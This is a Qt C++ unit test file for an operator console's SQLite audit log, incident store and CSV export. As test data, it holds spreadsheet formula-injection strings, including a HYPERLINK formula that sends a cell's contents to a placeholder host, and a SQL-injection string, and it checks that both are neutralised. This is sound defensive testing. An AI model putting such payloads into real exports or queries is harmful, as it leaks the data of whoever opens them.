#include "account/OperatorIdentity.h"
#include "api/ApiClient.h"
#include "api/WorkflowApi.h"
#include "audit/AuditLog.h"
#include "audit/AuditLogModel.h"
#include "bulk/BulkActionRunner.h"
#include "incidents/IncidentStore.h"
#include "storage/ConsoleDataPaths.h"
#include "storage/ConsoleDatabase.h"

#include <QDir>
#include <QFile>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QSqlDatabase>
#include <QSqlQuery>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTest>

#include <pwd.h>
#include <unistd.h>

namespace {

AuditEntry makeEntry(const QString &id, const QString &name, const QString &action,
                     const QString &incident = QString())
{
    AuditEntry e;
    e.osUser = QStringLiteral("alice");
    e.profile = QStringLiteral("prod");
    e.apiHost = QStringLiteral("api.dialnexa.com");
    e.workflowId = id;
    e.workflowName = name;
    e.action = action;
    e.reason = QStringLiteral("Carrier outage");
    e.incidentId = incident;
    return e;
}

QByteArray fileBytes(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

} // namespace

class TestAuditLog : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void rowWrittenBeforeAndCompletedAfter()
    {
        QTemporaryDir dir;
        ConsoleDatabase db;
        AuditLog log(&db);
        QVERIFY2(db.open(dir.filePath(QStringLiteral("a/audit.sqlite"))),
                 qPrintable(log.lastError()));
        QSignalSpy recorded(&log, &AuditLog::entryRecorded);
        const qint64 id =
            log.recordRequest(makeEntry(QStringLiteral("wf_1"), QStringLiteral("Nurture"),
                                        QStringLiteral("pause"), QStringLiteral("INC-1")));
        QVERIFY(id > 0);
        QCOMPARE(recorded.size(), 1);

        // Visible to another connection at once (committed), outcome NULL.
        {
            QSqlDatabase other =
                QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("probe"));
            other.setDatabaseName(log.path());
            QVERIFY(other.open());
            QSqlQuery q(other);
            QVERIFY(q.exec(QStringLiteral("SELECT outcome IS NULL, completed_at_utc IS NULL, "
                                          "requested_at_utc FROM audit_log")));
            QVERIFY(q.next());
            QVERIFY(q.value(0).toBool());
            QVERIFY(q.value(1).toBool());
            QVERIFY(QRegularExpression(
                        QStringLiteral("^\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}Z$"))
                        .match(q.value(2).toString())
                        .hasMatch());
            q.finish();
            other.close();
        }
        QSqlDatabase::removeDatabase(QStringLiteral("probe"));

        QList<AuditEntry> pending = log.pendingWithoutOutcome();
        QCOMPARE(pending.size(), 1);
        QCOMPARE(pending.first().id, id);
        QVERIFY(!pending.first().hasOutcome());
        QCOMPARE(pending.first().incidentId, QStringLiteral("INC-1"));

        QVERIFY(log.recordOutcome(id, QStringLiteral("done"), 200, QString()));
        QVERIFY(!log.recordOutcome(id + 100, QStringLiteral("done"), 200, QString()));
        QVERIFY(log.pendingWithoutOutcome().isEmpty());
        const AuditEntry e = log.entries().first();
        QCOMPARE(e.outcome, QStringLiteral("done"));
        QCOMPARE(e.httpStatus, 200);
        QVERIFY(e.completedAtUtc.isValid());
        QVERIFY(e.completedAtUtc >= e.requestedAtUtc);
        QCOMPARE(e.osUser, QStringLiteral("alice"));
        QCOMPARE(e.workflowName, QStringLiteral("Nurture"));
    }

    void emptyFieldsAreStoredAsEmptyText()
    {
        QTemporaryDir dir;
        ConsoleDatabase db;
        AuditLog log(&db);
        QVERIFY(db.open(dir.filePath(QStringLiteral("audit.sqlite"))));
        AuditEntry bare;
        bare.workflowId = QStringLiteral("wf_1");
        bare.action = QStringLiteral("pause");
        const qint64 id = log.recordRequest(bare);
        QVERIFY2(id > 0, qPrintable(log.lastError()));
        QVERIFY(log.recordOutcome(id, QString(), 0, QString()));
        const AuditEntry e = log.entries().first();
        QCOMPARE(e.outcome, QStringLiteral("unknown"));
        QCOMPARE(e.httpStatus, 0);
        QVERIFY(e.incidentId.isEmpty());
        IncidentStore store(&db);
        QVERIFY(store.createIncident(QString(), QString(), QString(), QString()));
    }

    void walModeIsActive()
    {
        QTemporaryDir dir;
        ConsoleDatabase db;
        AuditLog log(&db);
        QVERIFY(db.open(dir.filePath(QStringLiteral("audit.sqlite"))));
        QCOMPARE(log.journalMode(), QStringLiteral("wal"));
        IncidentStore store(&db);
        QCOMPARE(store.journalMode(), QStringLiteral("wal"));
        ConsoleDatabase other;
        IncidentStore separate(&other);
        QVERIFY(other.open(dir.filePath(QStringLiteral("incidents.sqlite"))));
        QCOMPARE(separate.journalMode(), QStringLiteral("wal"));
    }

    void csvCellsNeverBecomeFormulas()
    {
        // Anyone in a workspace can name a workflow; compliance opens the export in a
        // spreadsheet. OWASP's rule: a cell that starts with = + - @ TAB or CR gets a '.
        const QStringList hostile = {QStringLiteral("=HYPERLINK(\"https://x/?\"&A2,\"open\")"),
                                     QStringLiteral("+1+2"),
                                     QStringLiteral("-2+3"),
                                     QStringLiteral("@SUM(A1:A9)"),
                                     QStringLiteral("\tcmd"),
                                     QStringLiteral("\rcmd")};
        for (const QString &name : hostile) {
            AuditEntry e = makeEntry(QStringLiteral("wf_1"), name, QStringLiteral("pause"));
            e.id = 1;
            e.reason = name;
            e.serverMessage = name;
            const QString row = AuditLog::toCsv({e}).split(QStringLiteral("\r\n")).value(1);
            QVERIFY2(row.contains(QLatin1Char('\'') + name.left(1)), qPrintable(row));
            // No cell of the row starts with a formula character any more.
            for (QString cell : row.split(QLatin1Char(','))) {
                if (cell.startsWith(QLatin1Char('"')))
                    cell.remove(0, 1);
                QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@\t\r").contains(cell.at(0)),
                         qPrintable(row));
            }
        }
        // Ordinary text and negative-looking ids of the API stay as they are.
        AuditEntry plain = makeEntry(QStringLiteral("wf_2"), QStringLiteral("Spring promo"),
                                     QStringLiteral("pause"));
        QVERIFY(AuditLog::toCsv({plain}).contains(QStringLiteral(",Spring promo,")));
    }

    void defaultPathIsTheConsoleDataFile()
    {
        QVERIFY(ConsoleDatabase::defaultPath().endsWith(QStringLiteral("/audit.sqlite")));
        QCOMPARE(ConsoleDatabase::defaultPath(), ConsoleDataPaths::auditDatabasePath());
    }

    void csvQuotesPerRfc4180()
    {
        AuditEntry e = makeEntry(QStringLiteral("wf_1"), QStringLiteral("Nurture, \"VIP\""),
                                 QStringLiteral("pause"));
        e.id = 7;
        e.requestedAtUtc = QDateTime(QDate(2026, 11, 29), QTime(4, 12, 0, 5), Qt::UTC);
        e.outcome = QStringLiteral("conflict");
        e.httpStatus = 409;
        e.serverMessage = QStringLiteral("line one\nline two");
        e.reason = QStringLiteral("plain");
        const QString csv = AuditLog::toCsv({e});
        const QStringList lines = csv.split(QStringLiteral("\r\n"));
        QCOMPARE(lines.first(),
                 QStringLiteral("id,requested_at_utc,completed_at_utc,os_user,profile,api_host,"
                                "workflow_id,workflow_name,action,outcome,http_status,"
                                "server_message,reason,incident_id"));
        QCOMPARE(
            csv.mid(lines.first().size() + 2),
            QStringLiteral(
                "7,2026-11-29T04:12:00.005Z,,alice,prod,api.dialnexa.com,wf_1,"
                "\"Nurture, \"\"VIP\"\"\",pause,conflict,409,\"line one\nline two\",plain,\r\n"));
        QCOMPARE(AuditLog::toCsv({}), lines.first() + QStringLiteral("\r\n"));
    }

    void filtersSelectRows()
    {
        QTemporaryDir dir;
        ConsoleDatabase db;
        AuditLog log(&db);
        QVERIFY(db.open(dir.filePath(QStringLiteral("audit.sqlite"))));
        AuditEntry old =
            makeEntry(QStringLiteral("wf_old"), QStringLiteral("Old one"), QStringLiteral("pause"));
        old.requestedAtUtc = QDateTime::currentDateTimeUtc().addDays(-2);
        const qint64 a = log.recordRequest(old);
        const qint64 b =
            log.recordRequest(makeEntry(QStringLiteral("wf_b"), QStringLiteral("Renewal Drive"),
                                        QStringLiteral("pause"), QStringLiteral("INC-9")));
        const qint64 c =
            log.recordRequest(makeEntry(QStringLiteral("wf_c"), QStringLiteral("Win-back"),
                                        QStringLiteral("resume"), QStringLiteral("INC-9")));
        log.recordRequest(
            makeEntry(QStringLiteral("wf_d"), QStringLiteral("Quiet"), QStringLiteral("cancel")));
        QVERIFY(log.recordOutcome(a, QStringLiteral("done"), 200, {}));
        QVERIFY(log.recordOutcome(b, QStringLiteral("conflict"), 409,
                                  QStringLiteral("already paused")));
        QVERIFY(log.recordOutcome(c, QStringLiteral("done"), 200, {}));

        QCOMPARE(log.entries().size(), 4);
        AuditFilter f;
        f.since = QDateTime::currentDateTimeUtc().addDays(-1);
        QCOMPARE(log.entries(f).size(), 3);
        f = {};
        f.workflowText = QStringLiteral("renewal");
        QCOMPARE(log.entries(f).size(), 1);
        QCOMPARE(log.entries(f).first().workflowId, QStringLiteral("wf_b"));
        f.workflowText = QStringLiteral("WF_C");
        QCOMPARE(log.entries(f).size(), 1);
        f = {};
        f.action = QStringLiteral("pause");
        QCOMPARE(log.entries(f).size(), 2);
        f = {};
        f.outcome = QStringLiteral("done");
        QCOMPARE(log.entries(f).size(), 2);
        f.outcome = QStringLiteral("pending");
        QCOMPARE(log.entries(f).size(), 1);
        f = {};
        f.incidentId = QStringLiteral("INC-9");
        QCOMPARE(log.entries(f).size(), 2);
        f.action = QStringLiteral("resume");
        QCOMPARE(log.entries(f).size(), 1);
        f = {};
        f.limit = 2;
        const QList<AuditEntry> newest = log.entries(f);
        QCOMPARE(newest.size(), 2);
        QCOMPARE(newest.first().workflowId,
                 QStringLiteral("wf_c")); // oldest first within the newest two
        QCOMPARE(newest.last().workflowId, QStringLiteral("wf_d"));
        // SQL-looking text is just text.
        f = {};
        f.workflowText = QStringLiteral("' OR 1=1 --");
        QCOMPARE(log.entries(f).size(), 0);
    }

    void apiKeyNeverLandsInTheFile()
    {
        const QString key = QStringLiteral("dnx_live_SUPERSECRET_4f9a1c");
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("audit.sqlite"));
        ConsoleDatabase db;
        AuditLog log(&db);
        IncidentStore store(&db);
        QVERIFY(db.open(path));
        // A refused port: every POST fails with a network error, the re-read too.
        QTcpServer probe;
        QVERIFY(probe.listen(QHostAddress::LocalHost, 0));
        const quint16 port = probe.serverPort();
        probe.close();
        ApiClient client;
        client.setBaseUrl(QUrl(QStringLiteral("http://127.0.0.1:%1/v1").arg(port)));
        client.setApiKey(key);
        RetryPolicy noRetry;
        noRetry.maxAttempts = 1;
        client.setRetryPolicy(noRetry);
        WorkflowApi api(&client);
        BulkActionRunner runner(&api);
        runner.setAuditLog(&log);
        QSignalSpy finished(&runner, &BulkActionRunner::finished);
        BulkOptions options;
        options.reason = QStringLiteral("outage");
        options.profile = QStringLiteral("prod");
        options.apiHost = client.baseUrl().host();
        QVERIFY(runner.run(LifecycleAction::Pause,
                           {{QStringLiteral("wf_1"), QStringLiteral("One"), 3},
                            {QStringLiteral("wf_2"), QStringLiteral("Two"), 0}},
                           options));
        QVERIFY(finished.wait(20000));
        QCOMPARE(runner.summary().failed, 2);
        QVERIFY(runner.outcome(0).reason.contains(QStringLiteral("unknown")));
        QCOMPARE(log.entries().size(), 2);
        QCOMPARE(log.entries().first().outcome, QStringLiteral("failed"));
        QVERIFY(store.createIncident(QStringLiteral("outage"), QStringLiteral("alice"),
                                     QStringLiteral("prod"), client.baseUrl().host()));

        const QByteArray needle = key.toUtf8();
        QByteArray all = fileBytes(path) + fileBytes(path + QStringLiteral("-wal"));
        QVERIFY(!all.isEmpty());
        QVERIFY(!all.contains(needle));
        QVERIFY(!all.contains(QByteArrayLiteral("SUPERSECRET")));
        db.close();
        all = fileBytes(path) + fileBytes(path + QStringLiteral("-wal"));
        QVERIFY(!all.contains(QByteArrayLiteral("SUPERSECRET")));
        QVERIFY(!AuditLog::toCsv(AuditLog().entries()).contains(key));
    }

    void incidentStorePersistsAcrossReopen()
    {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("audit.sqlite"));
        QString id;
        {
            ConsoleDatabase db;
            IncidentStore store(&db);
            QVERIFY(db.open(path));
            const std::optional<Incident> inc =
                store.createIncident(QStringLiteral("Carrier outage"), QStringLiteral("alice"),
                                     QStringLiteral("prod"), QStringLiteral("api.dialnexa.com"));
            QVERIFY(inc);
            id = inc->id;
            QVERIFY(QRegularExpression(QStringLiteral("^INC-\\d{8}-\\d{4}-[0-9a-f]{10}$"))
                        .match(id)
                        .hasMatch());
            QVERIFY(store.addWorkflow(id, QStringLiteral("wf_1"), QStringLiteral("One")));
            QVERIFY(store.addWorkflow(id, QStringLiteral("wf_2"), QStringLiteral("Two")));
            QVERIFY(
                store.addWorkflow(id, QStringLiteral("wf_2"), QStringLiteral("Two"))); // kept once
            QVERIFY(store.markPauseRequested(id, QStringLiteral("wf_1")));
            QVERIFY(
                store.recordPauseOutcome(id, QStringLiteral("wf_1"), QStringLiteral("done"), true));
            QVERIFY(store.markPauseRequested(id, QStringLiteral("wf_2")));
            // no close(): the destructor drops the connection like a crash would leave the file
        }
        {
            ConsoleDatabase db;
            IncidentStore store(&db);
            QVERIFY(db.open(path));
            QCOMPARE(store.openIncidents().size(), 1);
            const Incident inc = store.openIncidents().first();
            QCOMPARE(inc.id, id);
            QCOMPARE(inc.reason, QStringLiteral("Carrier outage"));
            QCOMPARE(inc.operatorName, QStringLiteral("alice"));
            QCOMPARE(inc.profile, QStringLiteral("prod"));
            QCOMPARE(inc.apiHost, QStringLiteral("api.dialnexa.com"));
            QVERIFY(inc.startedAtUtc.isValid());
            QVERIFY(inc.isOpen());
            const QList<IncidentWorkflow> wfs = store.workflows(id);
            QCOMPARE(wfs.size(), 2);
            QVERIFY(wfs.at(0).pausedByIncident);
            QCOMPARE(wfs.at(0).pauseOutcome, QStringLiteral("done"));
            QVERIFY(!wfs.at(1).pausedByIncident);
            QVERIFY(wfs.at(1).pauseRequested);
            QVERIFY(wfs.at(1).pauseOutcome.isEmpty());
            QVERIFY(store.recordResumeOutcome(id, QStringLiteral("wf_1"), true,
                                              QStringLiteral("resumed")));
            QVERIFY(store.closeIncident(id));
        }
        {
            ConsoleDatabase db;
            IncidentStore store(&db);
            QVERIFY(db.open(path));
            QVERIFY(store.openIncidents().isEmpty());
            QCOMPARE(store.allIncidents().size(), 1);
            QVERIFY(!store.allIncidents().first().isOpen());
            QVERIFY(store.allIncidents().first().closedAtUtc.isValid());
            QVERIFY(store.workflows(id).first().resumed);
            QCOMPARE(store.workflows(id).first().resumeOutcome, QStringLiteral("resumed"));
        }
    }

    void operatorIdentityFromEnvironment()
    {
        QProcessEnvironment env;
        // No variables at all: the account database still names the effective user.
        const passwd *account = getpwuid(geteuid());
        QVERIFY(account && account->pw_name);
        QCOMPARE(OperatorIdentity::userName(env), QString::fromLocal8Bit(account->pw_name));
        env.insert(QStringLiteral("USERNAME"), QStringLiteral("win"));
        QCOMPARE(OperatorIdentity::userName(env), QStringLiteral("win"));
        env.insert(QStringLiteral("LOGNAME"), QStringLiteral("log"));
        QCOMPARE(OperatorIdentity::userName(env), QStringLiteral("log"));
        env.insert(QStringLiteral("USER"), QStringLiteral("usr"));
        QCOMPARE(OperatorIdentity::userName(env), QStringLiteral("usr"));
        QVERIFY(!OperatorIdentity::userName().isEmpty());
    }

    void modelFollowsTheLogIncrementally()
    {
        QTemporaryDir dir;
        ConsoleDatabase db;
        AuditLog log(&db);
        QVERIFY(db.open(dir.filePath(QStringLiteral("audit.sqlite"))));
        const qint64 first = log.recordRequest(
            makeEntry(QStringLiteral("wf_1"), QStringLiteral("One"), QStringLiteral("pause")));
        AuditLogModel model(&log);
        QCOMPARE(model.rowCount(), 1);
        QCOMPARE(model.columnCount(), int(AuditLogModel::ColumnCount));
        QCOMPARE(model.index(0, AuditLogModel::Outcome).data().toString(),
                 QStringLiteral("pending"));
        QVERIFY(model.index(0, 0).data(AuditLogModel::PendingRole).toBool());
        QCOMPARE(model.headerData(AuditLogModel::WorkflowName, Qt::Horizontal).toString(),
                 QStringLiteral("Workflow"));

        QSignalSpy inserted(&model, &QAbstractItemModel::rowsInserted);
        QSignalSpy changed(&model, &QAbstractItemModel::dataChanged);
        QSignalSpy reset(&model, &QAbstractItemModel::modelReset);
        model.setAutoRefresh(true);
        log.recordRequest(
            makeEntry(QStringLiteral("wf_2"), QStringLiteral("Two"), QStringLiteral("pause")));
        log.recordRequest(
            makeEntry(QStringLiteral("wf_3"), QStringLiteral("Three"), QStringLiteral("resume")));
        log.recordOutcome(first, QStringLiteral("done"), 200, {});
        QTRY_COMPARE(model.rowCount(), 3);
        QCOMPARE(inserted.size(), 1); // one contiguous span
        QCOMPARE(changed.size(), 1);
        QCOMPARE(changed.first().at(0).toModelIndex().row(), 0);
        QCOMPARE(reset.size(), 0);
        QCOMPARE(model.index(0, AuditLogModel::Outcome).data().toString(), QStringLiteral("done"));
        QCOMPARE(model.index(0, AuditLogModel::HttpStatus).data().toInt(), 200);
        QCOMPARE(model.index(2, AuditLogModel::WorkflowId).data().toString(),
                 QStringLiteral("wf_3"));

        AuditFilter f;
        f.action = QStringLiteral("pause");
        model.setFilter(f);
        QCOMPARE(reset.size(), 1);
        QCOMPARE(model.rowCount(), 2);
        QVERIFY(model.toCsv().contains(QStringLiteral("wf_2")));
        QVERIFY(!model.toCsv().contains(QStringLiteral("wf_3")));
        // An outcome that takes a row out of a filter removes just that row.
        f = {};
        f.outcome = QStringLiteral("pending");
        model.setFilter(f);
        QCOMPARE(model.rowCount(), 2);
        QSignalSpy removed(&model, &QAbstractItemModel::rowsRemoved);
        log.recordOutcome(model.entry(0).id, QStringLiteral("done"), 200, {});
        QTRY_COMPARE(model.rowCount(), 1);
        QCOMPARE(removed.size(), 1);
        QCOMPARE(model.entry(0).workflowId, QStringLiteral("wf_3"));
    }
};

QTEST_GUILESS_MAIN(TestAuditLog)
#include "tst_audit_log.moc"
